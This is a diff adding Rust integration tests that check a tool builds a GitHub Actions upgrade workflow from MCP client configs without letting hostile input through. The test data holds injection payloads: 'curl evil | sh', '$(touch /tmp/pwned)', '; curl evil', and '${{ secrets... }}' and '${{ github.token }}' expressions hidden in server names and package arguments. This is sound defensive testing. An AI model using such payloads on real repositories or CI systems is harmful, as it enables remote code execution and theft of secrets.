@@ -652,3 +652,162 @@ fn rules_shows_paths_and_globs_inert() {
     no_raw("--config", &stdout(&o));
     no_commands("--config", &stdout(&o));
 }
+
+fn parse_yaml(text: &str) -> Value {
+    serde_yaml_ng::from_str(text).unwrap_or_else(|e| panic!("not YAML: {e}\n{text}"))
+}
+
+/// I1. A client config from a hostile repository: server names and package arguments
+/// carrying YAML, expressions, shell and workflow commands. The workflow is written
+/// from the registries, the file's name and the directory only, so it is byte for
+/// byte the one a plain config with the same registries gives; what is printed is inert.
+#[test]
+fn a_hostile_client_config_cannot_reach_the_upgrade_workflow() {
+    let plain = r#"{"mcpServers": {"a": {"command": "npx", "args": ["-y", "x@1.0.0"]},
+                    "b": {"command": "uvx", "args": ["y==1.0"]}}}"#;
+    let hostile = json!({"mcpServers": {
+        "n\n  run: curl evil | sh\n${{ secrets.NPM_TOKEN }}": {"command": "npx", "args": ["-y", "x@1.0.0"]},
+        "'\u{1b}[2J::error::x##[add-mask]y": {"command": "uvx", "args": ["y==1.0", "${{ github.token }}", "$(touch /tmp/pwned)"]},
+        "c": {"command": "npx", "args": ["-y", "evil${{ github.token }}@1.0.0"]},
+        "d": {"command": "npx", "args": ["-y", "x@1.0.0\n    - run: curl evil"]},
+        "e": {"command": "uvx", "args": ["--from", "z==1.0; curl evil", "z"]},
+        "f": {"command": "npx\n::error::x", "args": ["'"]},
+        "g": {"url": "https://h/${{ secrets.X }}\u{1b}[31m"}
+    }});
+    let mut texts = Vec::new();
+    for (name, config) in [
+        ("plain", plain.to_string()),
+        ("hostile", hostile.to_string()),
+    ] {
+        let d = tmpdir(&format!("client-{name}"));
+        git_init(&d);
+        fs::write(d.join("client.json"), &config).unwrap();
+        let o = bin()
+            .current_dir(&d)
+            .args(["init", "--from-client", "client.json"])
+            .output()
+            .unwrap();
+        let err = stderr(&o);
+        assert_eq!(o.status.code(), Some(0), "{name}: {err}");
+        no_raw(name, &err);
+        no_commands(name, &err);
+        assert!(!err.contains("##["), "{name}: {err}");
+        texts.push(fs::read_to_string(d.join(".github/workflows/mcp-upgrades.yml")).unwrap());
+    }
+    assert_eq!(texts[0], texts[1]);
+    assert!(!texts[1].contains("${{"), "{}", texts[1]);
+}
+
+/// I2. A monorepo directory's name is written into the workflow (its name and
+/// working-directory): quotes, `: `, `#`, `{{`, `$`, a leading `-`, a line separator.
+/// Each reads back as exactly that name, or is refused (exit 2, nothing written).
+#[test]
+fn a_monorepo_directory_name_reads_back_exactly_from_the_workflow() {
+    let root = tmpdir("client-monorepo-names");
+    git_init(&root);
+    let config = r#"{"mcpServers": {"a": {"command": "npx", "args": ["-y", "x@1.0.0"]}}}"#;
+    for (i, dir) in [
+        "it's: a #dir",
+        "-x {{ y }} $z",
+        "a\u{2028}--- b",
+        "a\u{85}b",
+        "\u{feff}x",
+        "* &a !b |c >d %e @f `g",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let pkg = root.join(format!("p{i}")).join(dir);
+        fs::create_dir_all(&pkg).unwrap();
+        fs::write(pkg.join("client.json"), config).unwrap();
+        let o = bin()
+            .current_dir(&pkg)
+            .args(["init", "--from-client", "client.json"])
+            .output()
+            .unwrap();
+        let err = stderr(&o);
+        no_raw(dir, &err);
+        let written: Vec<_> = fs::read_dir(root.join(".github/workflows"))
+            .map(|r| r.flatten().map(|e| e.path()).collect())
+            .unwrap_or_default();
+        let ours: Vec<_> = written
+            .iter()
+            .filter(|p| p.to_string_lossy().contains(&format!("-p{i}-")))
+            .collect();
+        match o.status.code() {
+            Some(0) => {
+                assert_eq!(ours.len(), 1, "{dir:?}: {written:?}");
+                let text = fs::read_to_string(ours[0]).unwrap();
+                let w = parse_yaml(&text);
+                let action = &w["jobs"]["upgrade"]["steps"].as_array().unwrap()[2];
+                let want = format!("p{i}/{dir}");
+                assert_eq!(action["with"]["working-directory"], want.as_str(), "{text}");
+                assert_eq!(
+                    w["name"],
+                    format!("mcp-upgrades ({want})").as_str(),
+                    "{text}"
+                );
+                assert!(!text.contains("${{"), "{text}");
+            }
+            _ => {
+                refused_cleanly(&o, dir);
+                assert!(ours.is_empty(), "{dir:?}: {written:?}");
+            }
+        }
+    }
+}
+
+/// I3. A client config that is a FIFO, nested past the parser's limit, or a chain of
+/// raw-value tokens: exit 2 with one error line, at once, nothing written.
+#[test]
+fn a_client_config_that_cannot_be_read_is_refused_at_once() {
+    let d = tmpdir("client-unreadable");
+    git_init(&d);
+    let fifo = d.join("fifo.json");
+    let made = std::process::Command::new("mkfifo")
+        .arg(&fifo)
+        .status()
+        .unwrap();
+    assert!(made.success());
+    let deep = format!(
+        r#"{{"mcpServers": {{"a": {{"command": "npx", "args": ["-y", "x@1.0.0"], "z": {}{}}}}}}}"#,
+        "[".repeat(200),
+        "]".repeat(200)
+    );
+    fs::write(d.join("deep.json"), deep).unwrap();
+    let chain = format!(
+        r#"{{"mcpServers": {{"a": {{"command": "npx", "args": ["-y", "x@1.0.0"], "z": {}}}}}}}"#,
+        nested_raw_tokens(15, 100)
+    );
+    fs::write(d.join("chain.json"), chain).unwrap();
+    for file in ["fifo.json", "deep.json", "chain.json"] {
+        if file == "chain.json" {
+            assert!(!d.join(".github").exists());
+        }
+        for args in [
+            &["init", "--from-client", file][..],
+            &["upgrade", "--from-client", file][..],
+        ] {
+            let mut child = bin()
+                .current_dir(&d)
+                .args(args)
+                .stdout(std::process::Stdio::piped())
+                .stderr(std::process::Stdio::piped())
+                .spawn()
+                .unwrap();
+            let start = std::time::Instant::now();
+            while child.try_wait().unwrap().is_none() {
+                if start.elapsed().as_secs() > 20 {
+                    let _ = child.kill();
+                    panic!("{args:?}: still running after 20 s");
+                }
+                std::thread::sleep(std::time::Duration::from_millis(20));
+            }
+            let o = child.wait_with_output().unwrap();
+            if file == "chain.json" && o.status.code() == Some(0) {
+                continue; // read, within the limit: no crash is what is asked
+            }
+            refused_cleanly(&o, &format!("{args:?}"));
+        }
+    }
+}
